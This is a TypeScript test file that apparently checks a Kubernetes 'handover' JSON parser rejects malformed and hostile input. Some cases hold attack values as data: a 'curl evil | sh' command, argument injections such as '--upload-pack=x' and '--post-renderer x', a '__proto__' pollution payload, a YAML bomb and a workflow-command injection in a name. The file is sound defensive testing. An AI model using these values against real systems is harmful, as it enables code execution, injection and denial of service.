import { expect, test } from 'vitest'
import { MOST_BYTES } from '../../src/handover/model.ts'
import { parseHandover } from '../../src/handover/parse-handover.ts'
import { writeHandover } from '../../src/handover/write-handover.ts'
import type { JsonObject } from '../../src/model.ts'
import { catchRefusal, KNOWN, makeConfigMap, makeHandover, makeObject } from './make-handover.ts'

const TEXT = writeHandover(makeHandover(), KNOWN)
const refusal = (text: string) => catchRefusal(() => parseHandover(text, KNOWN))
const nest = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`
/** The text with something else for the ConfigMap's `"1"`. */
const withValue = (json: string) => TEXT.replace('{"a":"1"}', `{"a":${json}}`)
const YAML_BOMB = `a: &a [lol, lol]\nb: &b [${'*a, '.repeat(9)}*a]\nc: [${'*b, '.repeat(9)}*b]\n`

test('reads what was written', () => {
  expect(parseHandover(TEXT, KNOWN)).toEqual(makeHandover())
  const pretty = JSON.stringify(JSON.parse(TEXT), null, 2)
  expect(parseHandover(pretty, KNOWN)).toEqual(makeHandover())
})

test('keeps every digit of large integers, and texts that look like other things', () => {
  const data = { big: 18446744073709551615n, small: -9223372036854775808n, odd: '__proto__', quoted: '{"a":1,"a":2}\\', lone: '\ud800' }
  const handover = makeHandover([makeConfigMap('a', data)])
  expect(parseHandover(writeHandover(handover, KNOWN), KNOWN)).toEqual(handover)
})

test.each<readonly [string, string, string]>([
  ['nothing', '', 'It is not JSON. Nothing else is read, YAML least of all.'],
  ['YAML', 'schemaVersion: "1"\ntargets: []\n', 'It is not JSON.'],
  ['a YAML bomb', YAML_BOMB, 'It is not JSON.'],
  ['a YAML bomb that begins like JSON', `{"a": ["x"],\nb: &b [1]}`, 'It is not JSON.'],
  ['a text that was cut', TEXT.slice(0, -5), 'It is not JSON.'],
  ['two values', `${TEXT}{}`, 'It is not JSON.'],
  ['a byte order mark', `\ufeff${TEXT}`, 'It is not JSON.'],
  ['a comment', `${TEXT}//`, 'It is not JSON.'],
  ['NaN', withValue('NaN'), 'It is not JSON.'],
  ['a list', '[]', 'It is not as Plumbline writes it: "Invalid input: expected object, received array".'],
  ['another version', TEXT.replace('"schemaVersion":"1"', '"schemaVersion":"2"'), 'It is not as Plumbline writes it, at "schemaVersion"'],
  ['a field more', TEXT.replace('{', '{"run":"curl evil | sh",'), 'It is not as Plumbline writes it: "Unrecognized key: \\"run\\""'],
  ['a field more within', TEXT.replace('"template":', '"path":"/etc","template":'), 'at "targets.0.head.objects.0"'],
  ['a field less', TEXT.replace('"fromCrds":false,', ''), 'at "targets.0.head.objects.0.fromCrds"'],
  ['a commit that is none', TEXT.replace('b'.repeat(40), '--upload-pack=x'), 'at "pullRequest.head"'],
  ['a number that is none', TEXT.replace('"number":7', '"number":"7"'), 'at "pullRequest.number"'],
  ['a number of 2^53', TEXT.replace('"number":7', '"number":9007199254740993'), 'at "pullRequest.number"'],
  ['a version that is none', TEXT.replace('v1.34.4', 'v1.34.4 --post-renderer x'), 'at "kubeVersion"'],
  ['a name that is too long', TEXT.replaceAll('"name":"a"', `"name":"${'a'.repeat(254)}"`), 'at "targets.0.head.objects.0.ref.name"'],
  ['an object that is none', TEXT.replace(/"object":\{.*?\}\}/, '"object":[]'), 'at "targets.0.head.objects.0.object"'],
  ['__proto__', withValue('{"__proto__":{"polluted":true}}'), 'It has the name "__proto__"'],
  ['__proto__, escaped', withValue('{"\\u005f_proto__":{"polluted":true}}'), 'It has the name "__proto__"'],
  ['__proto__ at the top', TEXT.replace('{', '{"__proto__":{},'), 'It has the name "__proto__"'],
  ['a name twice', TEXT.replace('"number":7', '"number":7,"number":8'), 'It has the name "number" twice in one object'],
  ['a name twice, escaped', withValue('{"ab":1,"\\u0061b":2}'), 'It has the name "ab" twice in one object'],
  ['a name twice, with things between', withValue('{"x":{"x":1},"y":["x"],"x" :2}'), 'It has the name "x" twice in one object'],
  ['a number beyond all', withValue('1e999'), 'It has the number 1e999, which is beyond every type of Kubernetes.'],
  ['a negative one', withValue('-1e999'), 'It has the number -1e999,'],
  ['a number of a million digits', withValue('9'.repeat(1e6)), 'It has a number of 1000000 characters, more than Kubernetes reads.'],
  ['a value nested too deep', withValue(nest(501)), '"ConfigMap/a" nests more than 500 levels deep, which is not compared.'],
  ['a text nested much too deep', withValue(nest(5_000_000)), 'It nests more than 520 levels deep'],
  ['brackets that never close', '['.repeat(MOST_BYTES), 'It nests more than 520 levels deep'],
  ['millions of empty lists', withValue(`[${'[],'.repeat(3_000_000)}[]]`), 'It has more than 2000000 values'],
  ['millions of nulls', withValue(`[${'null,'.repeat(3_000_000)}null]`), 'It has more than 2000000 values'],
  ['more than the bound', `${TEXT}${' '.repeat(MOST_BYTES)}`, 'It has 20.00 MB; at most 20 MB are read.'],
  ['more bytes than characters', `"${'ä'.repeat(11 * 2 ** 20)}"`, 'It has 22 MB; at most 20 MB are read.'],
  [
    'a target that nobody knows',
    TEXT.replace('"name":"shop"', '"name":"other\\n::error::x"'),
    'It has the target "other\\n::error::x", which the configuration',
  ],
])('refuses %s', async (_, text, words) => {
  expect(await refusal(text)).toContain(words)
  expect({}).not.toHaveProperty('polluted')
})

test.each<readonly [string, string, string]>([
  ['notes', TEXT.replace('"notes":[]', `"notes":[${'{},'.repeat(9000)}{}]`), 'at "targets.0.head.notes.0.kind"'],
  ['unstable paths', TEXT.replace('"unstable":[]', `"unstable":[${'0,'.repeat(9000)}0]`), 'at "targets.0.head.objects.0.unstable.0"'],
  ['steps', manyPaths(`[${'0,'.repeat(500)}0]`), 'at "targets.0.head.objects.0.unstable.0.path.0"'],
])('of thousands of %s that are wrong, the first is told, and no more is looked at', async (_, text, words) => {
  const start = performance.now()
  expect(await refusal(text)).toContain(words)
  expect(performance.now() - start).toBeLessThan(2000)
})

/** A thousand paths like this one. */
function manyPaths(path: string): string {
  const one = `{"path":${path},"why":"random","rendered":[]}`
  return TEXT.replace('"unstable":[]', `"unstable":[${`${one},`.repeat(2000)}${one}]`)
}

test.each<readonly [string, object, string]>([
  ['another kind', { kind: 'Secret' }, '"Secret/a" is said to be another object than it is, "ConfigMap/a".'],
  ['another version', { apiVersion: 'v2' }, '"ConfigMap/a" is said to be another object'],
  ['another name', { name: 'b' }, '"ConfigMap/b" is said to be another object than it is, "ConfigMap/a".'],
  ['another namespace', { namespace: 'kube-system' }, '"ConfigMap/a" is said to be another object'],
])('refuses a reference with %s than the object has', async (_, wrong, words) => {
  const one = makeConfigMap('a')
  const text = JSON.stringify({ schemaVersion: '1', ...makeHandover([{ ...one, ref: { ...one.ref, ...wrong } }]) })
  expect(await refusal(text)).toContain(words)
})

test.each<readonly [string, JsonObject]>([
  ['no kind', { apiVersion: 'v1', metadata: { name: 'a' } }],
  ['a kind that is no text', { apiVersion: 'v1', kind: ['ConfigMap'], metadata: { name: 'a' } }],
  ['no metadata', { apiVersion: 'v1', kind: 'ConfigMap' }],
  ['an empty name', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: '' } }],
])('refuses an object with %s', async (_, object) => {
  const text = JSON.stringify({ schemaVersion: '1', ...makeHandover([{ ...makeConfigMap('a'), object }]) })
  expect(await refusal(text)).toContain('"ConfigMap/a" has no apiVersion, kind or metadata.name of its own.')
})

test('refuses things twice', async () => {
  const twice = JSON.stringify({ schemaVersion: '1', ...makeHandover([makeConfigMap('a'), makeConfigMap('a', { b: '2' })]) })
  expect(await refusal(twice)).toContain('It has "ConfigMap/a" twice in one target.')
  const { targets } = makeHandover()
  const targetTwice = JSON.stringify({ schemaVersion: '1', ...makeHandover([], { targets: [...targets, ...targets] }) })
  expect(await refusal(targetTwice)).toContain('It has the target "shop" twice.')
})

test('refuses more targets and objects than any pull request has', async () => {
  const many = Array.from({ length: 1001 }, (_, at) => ({ name: `t${at}`, head: null }))
  expect(await refusal(JSON.stringify({ schemaVersion: '1', ...makeHandover([], { targets: many }) }))).toContain('at "targets"')
  const objects = Array.from({ length: 10_001 }, (_, at) => makeConfigMap(`c${at}`))
  const head = { objects, setAside: [], notes: [] }
  const targets = [
    { name: 'shop', head },
    { name: 'blog', head },
  ]
  expect(await refusal(JSON.stringify({ schemaVersion: '1', ...makeHandover([], { targets }) }))).toContain(
    'It has 20002 objects; at most 20000 are read.',
  )
})

test('takes kinds that Kubernetes does not have, and objects that name their namespace or have none', () => {
  const own = makeObject({ apiVersion: 'acme.io/v7', kind: 'Widget', metadata: { name: 'w', namespace: 'elsewhere' } })
  const none = makeObject({ apiVersion: 'acme.io/v7', kind: 'Planet', metadata: { name: 'p' } })
  const handover = makeHandover([own, { ...none, ref: { ...none.ref, namespace: null } }])
  expect(parseHandover(writeHandover(handover, KNOWN), KNOWN)).toEqual(handover)
})
